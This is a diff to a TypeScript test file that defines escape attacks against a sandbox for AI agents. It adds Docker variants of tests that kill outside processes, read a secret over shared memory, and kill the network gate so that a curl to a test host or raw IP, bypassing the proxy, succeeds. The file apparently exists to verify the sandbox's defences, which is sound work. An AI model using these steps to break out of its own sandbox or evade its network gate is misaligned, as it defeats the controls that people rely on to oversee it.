@@ -1,5 +1,6 @@
 import type { Attack, Patch } from "../attack.ts";
 import { secretHead } from "../victim.ts";
+import { hostConfig, routedNetwork } from "./docker-words.ts";
 
 const allowedList = "src/sandbox/seccomp/allowed-syscalls.ts";
 const defences = "src/sandbox/local/defences.ts";
@@ -25,6 +26,15 @@ const sharedProcesses: readonly Patch[] = [
   },
 ];
 
+const endlessRun: Patch = {
+  file: "src/run/keeper.ts",
+  find: `lost: () => finish("interrupted"),`,
+  replace: "lost: () => {},",
+};
+const outlivingTheGate = `touch ready; while ! [ -e dead ]; do sleep 0.02; done
+  curl -sS --max-time 3 http://good.test/public/$MARKER || curl -sS --noproxy '*' --max-time 3 http://203.0.113.10/$MARKER`;
+const sharedProcessesOnDocker = { docker: { off: { patches: [hostConfig('PidMode: "host"')] } } } as const;
+
 /** Attacks on other processes: our helpers inside, the keeper and the gate outside, the person's own. */
 export const processAttacks: readonly Attack[] = [
   {
@@ -34,6 +44,7 @@ export const processAttacks: readonly Attack[] = [
     defence: "each command in a user namespace of its own",
     off: { patches: [sameUser] },
     evidence: { kind: "word" },
+    notOn: { docker: "none of our helpers is inside" },
   },
   {
     name: "host-command-lines",
@@ -45,6 +56,7 @@ export const processAttacks: readonly Attack[] = [
     },
     defence: "process namespace",
     off: { patches: sharedProcesses },
+    ...sharedProcessesOnDocker,
     evidence: { kind: "secret" },
   },
   {
@@ -52,11 +64,12 @@ export const processAttacks: readonly Attack[] = [
     breaks: "2 sealed by the kernel",
     program: "run-shell.sh",
     setting: {
-      prepare: "sleep 60 >/dev/null 2>&1 & echo $! > victim.pid",
+      prepare: "$AS_AGENT sleep 60 >/dev/null 2>&1 & echo $! > victim.pid",
       variables: { SCRIPT: "kill -KILL $(cat victim.pid)" },
     },
     defence: "process namespace",
     off: { patches: sharedProcesses },
+    ...sharedProcessesOnDocker,
     evidence: { kind: "host", check: "! kill -0 $(cat victim.pid) 2>/dev/null" },
   },
   {
@@ -82,11 +95,12 @@ export const processAttacks: readonly Attack[] = [
     breaks: "2 sealed by the kernel",
     program: "shared-memory",
     setting: {
-      prepare: `(sleep 60 | /srv/programs/share-secret > ready) >/dev/null 2>&1 & while ! [ -s ready ]; do sleep 0.02; done`,
+      prepare: `(sleep 60 | $AS_AGENT /srv/programs/share-secret > ready) >/dev/null 2>&1 & while ! [ -s ready ]; do sleep 0.02; done`,
       variables: { WANTED_HEAD: secretHead },
     },
     defence: "ipc namespace",
     off: { patches: [withoutNamespace("ipc")] },
+    docker: { off: { patches: [hostConfig('IpcMode: "host"')] } },
     evidence: { kind: "secret" },
   },
   {
@@ -97,15 +111,22 @@ export const processAttacks: readonly Attack[] = [
       meanwhile: `while ! [ -e ready ]; do sleep 0.02; done
         journal=$(dirname "$(grep -l "$PWD" ~/.local/state/caisson/sandboxes/*/metadata.json)")/journal.jsonl
         kill -KILL $(grep -o '"step":"gate_started".*"pid":[0-9]*' "$journal" | grep -o '[0-9]*$'); touch dead`,
-      variables: {
-        SCRIPT: `touch ready; while ! [ -e dead ]; do sleep 0.02; done
-          curl -sS --max-time 3 http://good.test/public/$MARKER || curl -sS --noproxy '*' --max-time 3 http://203.0.113.10/$MARKER`,
-      },
+      variables: { SCRIPT: outlivingTheGate },
     },
     defence: "network namespace with loopback alone, run ends with its gate",
     off: {
-      patches: [withoutNamespace("net"), { file: "src/run/keeper.ts", find: `finish("interrupted");`, replace: "" }],
+      patches: [withoutNamespace("net"), endlessRun],
     },
     evidence: { kind: "proof" },
+    docker: {
+      setting: {
+        meanwhile: `while ! [ -e ready ]; do sleep 0.02; done
+          slug=$(basename $(dirname "$(grep -l "$PWD" ~/.local/state/caisson/sandboxes/*/metadata.json)"))
+          docker kill caisson-$slug-gate-1 >/dev/null; touch dead`,
+        variables: { SCRIPT: outlivingTheGate },
+      },
+      defence: "an internal network, run ends with its gate",
+      off: { patches: [...routedNetwork, endlessRun] },
+    },
   },
 ];
